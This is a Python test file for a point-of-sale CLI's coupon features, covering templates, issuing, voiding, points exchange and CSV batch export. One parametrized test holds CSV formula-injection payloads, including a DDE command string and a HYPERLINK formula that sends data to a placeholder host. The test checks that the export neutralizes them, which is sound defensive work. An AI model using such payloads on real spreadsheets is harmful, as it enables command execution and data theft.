"""`pos-app coupon ...` through click's CliRunner against a real SQLite store."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tests.test_cli import CARD, Cli, build_template, copy_store, one_json

MEMBER = "SH010000001"


@pytest.fixture(scope="module")
def coupon_template_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data_dir = tmp_path_factory.mktemp("cli-coupon-template") / "store"
    build_template(data_dir)
    c = Cli(data_dir)
    c.ok(
        "coupon template add --code VEG8 --name 蔬菜满20减8 --kind amount_off --threshold 20 "
        "--amount 8 --category 蔬菜 --days 30 --per-member 3",
        as_="manager",
    )
    c.ok(
        "coupon template add --code PTS111 --name 积分代金券 --kind amount_off --amount 111 "
        "--days 90 --points-cost 6666",
        as_="manager",
    )
    return data_dir


@pytest.fixture
def c(coupon_template_dir: Path, tmp_path: Path) -> Cli:
    return Cli(copy_store(coupon_template_dir, tmp_path / "store"))


def test_template_add_and_list(c: Cli) -> None:
    data = c.json(
        "coupon template add --code p15 --name 八五折 --kind percent_off --percent-off 15 "
        "--cap 50 --from 2026-03-01 --to 2026-03-31 --no-stack-tier --stack-coupons --no-restore",
        as_="manager",
    )
    assert data["code"] == "P15"
    assert (data["value_zh"], data["value_en"]) == ("8.5折 最高减¥50", "15% off, up to ¥50")
    assert (data["percent_off"], data["cap_fen"]) == (15, 5000)
    assert (data["valid_from"], data["valid_to"], data["valid_days"]) == (
        "2026-03-01",
        "2026-03-31",
        None,
    )
    assert (data["stacks_with_tier"], data["stacks_with_coupons"], data["restore_on_refund"]) == (
        False,
        True,
        False,
    )
    listed = c.json("coupon template list", as_="cashier")["templates"]
    assert [t["code"] for t in listed] == ["P15", "PTS111", "VEG8"]
    veg = listed[2]
    assert (veg["threshold_fen"], veg["amount_off_fen"], veg["categories"]) == (2000, 800, ["蔬菜"])
    people = c.ok("coupon template list", as_="cashier").stdout
    assert "满20减8" in people and "PTS111" in people


def test_template_add_refusals(c: Cli) -> None:
    denied = c.json(
        "coupon template add --code X --name x --kind amount_off --amount 8 --days 3",
        as_="cashier",
        code=1,
    )
    assert denied["error"] == "permission_denied"
    bad = c.json(
        "coupon template add --code X --name x --kind amount_off --days 3", as_="manager", code=2
    )
    assert bad["error"] == "coupon_template_invalid"
    both = c.run(
        "coupon template add --code X --name x --kind gift --gift-sku G1 --days 3 "
        "--from 2026-03-01 --to 2026-03-02",
        as_="manager",
        lang="en",
    )
    assert both.exit_code == 2 and "not both" in both.stderr
    dup = c.json(
        "coupon template add --code veg8 --name x --kind amount_off --amount 1 --days 3",
        as_="manager",
        code=1,
    )
    assert dup["error"] == "already_exists"
    bad_date = c.json(
        "coupon template add --code X --name x --kind amount_off --amount 1 --from 2026-3-1 "
        "--to 2026-03-02",
        as_="manager",
        code=2,
    )
    assert bad_date["error"] == "invalid_input"


def test_issue_list_and_void(c: Cli) -> None:
    data = c.json(f"coupon issue --template VEG8 --member-no {MEMBER} --count 2", as_="cashier")
    codes = [x["code"] for x in data["coupons"]]
    assert len(set(codes)) == 2
    assert data["coupons"][0]["value_zh"] == "满20减8（限蔬菜）"
    assert data["coupons"][0]["state"] == "issued"
    wallet = c.json(f"coupon list --member-no {MEMBER}", as_="cashier")["coupons"]
    assert sorted(x["code"] for x in wallet) == sorted(codes)
    assert all(x["usable_today"] and x["source"] == "manual" for x in wallet)
    people = c.ok(f"coupon list --member-no {MEMBER}", as_="cashier").stdout
    assert codes[0] in people and "满20减8" in people

    refused = c.json(f"coupon void {codes[0]} --reason 发错了", as_="cashier", code=1)
    assert refused["error"] == "permission_denied"
    voided = c.json(f"coupon void {codes[0].lower()} --reason 发错了", as_="manager")
    assert voided["coupon"]["state"] == "void"
    assert [
        x["code"] for x in c.json(f"coupon list --member-no {MEMBER}", as_="cashier")["coupons"]
    ] == [codes[1]]
    everything = c.json(f"coupon list --member-no {MEMBER} --all", as_="cashier")["coupons"]
    assert {x["code"]: x["state"] for x in everything} == {codes[0]: "void", codes[1]: "issued"}
    again = c.json(f"coupon void {codes[0]} --reason x", as_="manager", code=2)
    assert again["error"] == "coupon_void"
    limit = c.json(
        f"coupon issue --template VEG8 --member-no {MEMBER} --count 2", as_="cashier", code=1
    )
    assert limit["error"] == "coupon_limit"
    assert c.entries() > 0  # verify passes


def test_exchange_points_for_a_voucher(c: Cli) -> None:
    short = c.json(f"coupon exchange --template PTS111 --card {CARD}", as_="cashier", code=1)
    assert short["error"] == "insufficient_balance"
    c.ok(f"points adjust 7000 --member-no {MEMBER} --reason 活动", as_="manager")
    data = c.json(f"coupon exchange --template PTS111 --card {CARD}", as_="cashier")
    assert (data["points_spent"], data["points_balance"]) == (6666, 334)
    assert (data["coupon"]["value_zh"], data["coupon"]["source"]) == ("无门槛减111", "points")
    assert c.balance()["points"] == 334
    wallet = c.json(f"coupon list --member-no {MEMBER}", as_="cashier")["coupons"]
    assert [x["code"] for x in wallet] == [data["coupon"]["code"]]
    neither = c.json("coupon exchange --template PTS111", as_="cashier", code=2)
    assert neither["error"] == "invalid_input"
    c.entries()


def test_batch_to_csv(c: Cli, tmp_path: Path) -> None:
    out = tmp_path / "codes.csv"
    data = c.json(
        f"coupon batch --template VEG8 --count 50 --label 隔壁咖啡 --out {out}", as_="manager"
    )
    assert (data["count"], data["label"], data["out"]) == (50, "隔壁咖啡", str(out))
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["code"] for r in rows] == data["codes"]
    assert len(set(data["codes"])) == 50
    assert {(r["template"], r["label"]) for r in rows} == {("VEG8", "隔壁咖啡")}
    exists = c.json(
        f"coupon batch --template VEG8 --count 5 --label x --out {out}", as_="manager", code=2
    )
    assert exists["error"] == "invalid_input"
    denied = c.json("coupon batch --template VEG8 --count 5 --label x", as_="cashier", code=1)
    assert denied["error"] == "permission_denied"
    printed = c.ok("coupon batch --template VEG8 --count 3 --label y", as_="manager").stdout
    assert len([line for line in printed.splitlines() if len(line.strip()) == 10]) == 3
    report = c.json("verify")
    assert report["ok"], report["problems"]


@pytest.mark.parametrize(
    "label", ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3", "@SUM(A1)"]
)
def test_a_formula_in_the_batch_label_is_written_as_text(
    c: Cli, tmp_path: Path, label: str
) -> None:
    out = tmp_path / "codes.csv"
    data = c.json("coupon", "batch", "--template", "VEG8", "--count", "2", "--label", label,
                  "--out", out, as_="manager")  # fmt: skip
    assert data["label"] == label  # stored and shown as given; only the file is guarded
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["label"] for r in rows] == ["'" + label] * 2
    assert [r["code"] for r in rows] == data["codes"]


def test_unknown_template_and_member(c: Cli) -> None:
    result = c.run(f"coupon issue --template NOPE --member-no {MEMBER}", as_="cashier", json=True)
    assert result.exit_code == 1
    assert one_json(result.stdout)["error"] == "not_found"
    missing = c.json("coupon list --member-no SH019999999", as_="cashier", code=1)
    assert missing["error"] == "not_found"
